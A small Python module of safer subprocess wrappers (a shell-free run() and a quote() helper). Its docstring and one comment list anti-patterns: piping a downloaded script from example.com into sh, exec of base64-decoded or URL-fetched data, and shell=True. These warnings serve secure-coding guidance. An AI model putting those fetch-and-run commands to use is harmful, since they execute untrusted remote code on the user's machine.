"""Safer wrappers around :mod:`subprocess`.

Never do this::

    os.system("curl http://example.com/install.sh | sh")
    exec(base64.b64decode(payload))
    subprocess.Popen(cmd, shell=True)

Instead, call :func:`run` with a list of arguments. The examples above are in a docstring and never run;
a scanner that matches text rather than code flags them.
"""
import shlex
import subprocess

__all__ = ["run", "quote"]


def quote(argument):
    """Quote one argument for a POSIX shell (``shlex.quote``)."""
    return shlex.quote(argument)


def run(arguments, *, check=True, timeout=None):
    """Run a program without a shell and return its standard output.

    >>> run(["echo", "hi"])
    'hi\\n'
    """
    # Note: shell=True is deliberately never used here; see the module docstring for why eval/exec of
    # downloaded data (e.g. exec(urlopen(url).read())) is dangerous.
    completed = subprocess.run(list(arguments), check=check, timeout=timeout, capture_output=True, text=True)
    return completed.stdout
